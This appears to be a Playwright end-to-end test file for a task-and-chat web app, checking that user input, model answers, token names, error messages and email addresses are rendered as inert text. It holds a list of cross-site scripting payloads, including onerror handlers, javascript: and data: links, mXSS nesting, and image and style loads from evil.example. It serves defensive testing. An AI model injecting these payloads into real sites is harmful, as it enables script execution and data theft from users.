"""Script in every field is text, wherever it is shown: nothing runs, and nothing is asked of another host."""

from collections.abc import AsyncIterator
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Dialog, Request, expect

from tests.browser.conftest import NewPerson
from tests.browser.person import Person
from tests.e2e.conftest import Server

pytestmark = pytest.mark.long

SCRIPT = '<img src=x onerror="window.hacked=1"><script>window.hacked=1;alert(1)</script>\'"${7*7}'
ANSWERS = [
    SCRIPT,
    "<svg onload=window.hacked=1></svg><iframe src='https://evil.example/frame'></iframe><form>",
    "[press](javascript:window.hacked=1) <a href='javascript:window.hacked=1' onclick='window.hacked=1'>here</a>",
    "![picture](https://evil.example/read?what=tasks) <img src='https://evil.example/pixel'> <video src=//a.b>",
    "<style>@import url(https://evil.example/style);</style><p style='background:url(//evil.example/paint)'>painted",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hacked=1&gt;'>",
    "<a href='data:text/html,<script>window.hacked=1</script>' ping='//a.b'>data</a><base href='//evil.example'>",
]


@pytest.fixture
async def watched(assisted: Server, somebody: NewPerson) -> AsyncIterator[Person]:
    """Whatever is shown to this person, nothing of it runs."""
    person = await somebody(assisted)
    asked: list[Request] = []
    opened: list[str] = []

    def note_request(request: Request) -> None:
        asked.append(request)

    async def note_dialog(dialog: Dialog) -> None:
        opened.append(dialog.message)
        await dialog.dismiss()

    person.context.on("request", note_request)
    person.page.on("dialog", note_dialog)
    yield person
    await _click_all_links(person)
    person.context.remove_listener("request", note_request)
    person.page.remove_listener("dialog", note_dialog)
    assert await person.page.evaluate("window.hacked") is None
    assert opened == []
    here = urlsplit(assisted.url).netloc
    assert {urlsplit(each.url).netloc for each in asked if not each.url.startswith(("blob:", "data:"))} <= {here}


async def _click_all_links(person: Person) -> None:
    for link in await person.page.locator(".message a").all():
        assert (await link.get_attribute("href") or "https:").startswith(("https:", "http:", "mailto:"))
        await link.evaluate("link => (link.target = '_self', link.removeAttribute('href'), link.click())")


async def test_script_in_a_task_is_text_in_the_list_in_its_card_and_in_notices(watched: Person) -> None:
    await watched.adds(SCRIPT)
    await watched.sees_tasks(SCRIPT)
    await watched.tasks.first.locator(".open").click()
    await watched.page.get_by_label("Description").fill(SCRIPT)
    await watched.page.get_by_label("Title").press("Enter")
    await expect(watched.tasks.locator(".note")).to_contain_text("onerror")
    await watched.tasks.first.hover()
    await watched.page.get_by_label("Delete: ").click()
    await expect(watched.notice(f"Deleted: {SCRIPT}")).to_be_visible()
    await watched.goes_to("Trash")
    await watched.sees_tasks(SCRIPT)


async def test_script_in_what_is_said_and_done_in_a_conversation_is_text(watched: Person) -> None:
    await watched.says(f"add {SCRIPT}")
    await expect(watched.page.locator(".message.user")).to_have_text(f"add {SCRIPT}")
    await expect(watched.done).to_have_text([SCRIPT])
    await watched.sees_tasks(SCRIPT)
    await watched.ask("PATCH", "/api/users/me/conversations/default", {"title": SCRIPT})
    await watched.page.reload()
    await expect(watched.page.locator(".chat-head h2")).to_have_text(SCRIPT)


@pytest.mark.parametrize("answer", ANSWERS)
async def test_what_a_model_says_is_markdown_without_script_pictures_or_frames(watched: Person, answer: str) -> None:
    await watched.says(f"say **bold** {answer}")
    await expect(watched.answers.last.locator("strong").first).to_have_text("bold")
    await watched.is_answered()
    forbidden = "img, svg, iframe, form, video, style, base, script, [style], [onclick], [onerror], [ping]"
    await expect(watched.answers.locator(".text").locator(forbidden)).to_have_count(0)


async def test_script_in_the_name_of_a_token_is_text(watched: Person) -> None:
    await watched.page.goto("/settings/connect")
    await watched.page.get_by_label("What is it for?").fill(SCRIPT[:100])
    await watched.button("Make a token").click()
    await expect(watched.page.locator(".tokens li")).to_contain_text(SCRIPT[:60])


async def test_script_in_a_refusal_is_text(watched: Person) -> None:
    detail = {"code": "X", "message": SCRIPT, "request_id": SCRIPT}
    refused = {"status": 409, "json": {"detail": detail}}
    await watched.page.route("**/tasks", lambda route: route.fulfill(**refused))
    await watched.page.route("**/chat", lambda route: route.fulfill(**refused))
    await watched.adds("Buy milk")
    await expect(watched.notice(SCRIPT)).to_be_visible()
    await watched.says("say hello")
    await watched.sees_answer(SCRIPT)


async def test_markup_in_an_address_is_text(assisted: Server, newcomer: NewPerson) -> None:
    dora = await newcomer(assisted)
    dora.email = "o'hara&amp{b}${7*7}=`x`@example.com"
    await dora.sign_up()
    await dora.opens("/settings")
    await expect(dora.page.get_by_text(dora.email)).to_be_visible()


async def test_a_link_of_an_answer_opens_elsewhere_and_tells_nothing_of_here(watched: Person) -> None:
    await watched.says("say See [the page](https://example.org/page).")
    link = watched.answers.last.get_by_role("link", name="the page")
    await expect(link).to_have_attribute("target", "_blank")
    await expect(link).to_have_attribute("rel", "noopener noreferrer")


async def test_a_long_address_in_a_title_is_shown_shortened(watched: Person) -> None:
    address = f"https://example.org/{'long/' * 20}"
    await watched.adds(f"Read {address}")
    link = watched.tasks.get_by_role("link").first
    await expect(link).to_have_attribute("href", address)
    await expect(link).to_have_text("example.org/long/long/long/long/long/long/long/…")


async def test_an_address_in_a_title_is_a_link_that_opens_elsewhere(watched: Person) -> None:
    await watched.adds("Read https://example.org/a_(b), then https://example.org.")
    link = watched.tasks.get_by_role("link").first
    await expect(link).to_have_attribute("href", "https://example.org/a_(b)")
    await expect(link).to_have_attribute("rel", "noopener noreferrer")
    await expect(watched.tasks.get_by_role("link").last).to_have_attribute("href", "https://example.org")


async def test_a_number_within_plain_lines_begins_no_list(watched: Person) -> None:
    await watched.says("say Here it is\n1. Pay rent\nand more")
    await expect(watched.answers.last.locator("ol")).to_have_count(0)
    await watched.sees_answer("1. Pay rent")
    await watched.is_answered()
    await watched.page.get_by_label("Message", exact=True).fill("say Two things:\n\n1. Pay rent\n2. Buy milk")
    await watched.page.keyboard.press("Enter")
    await expect(watched.answers.last.locator("ol li")).to_have_text(["Pay rent", "Buy milk"])
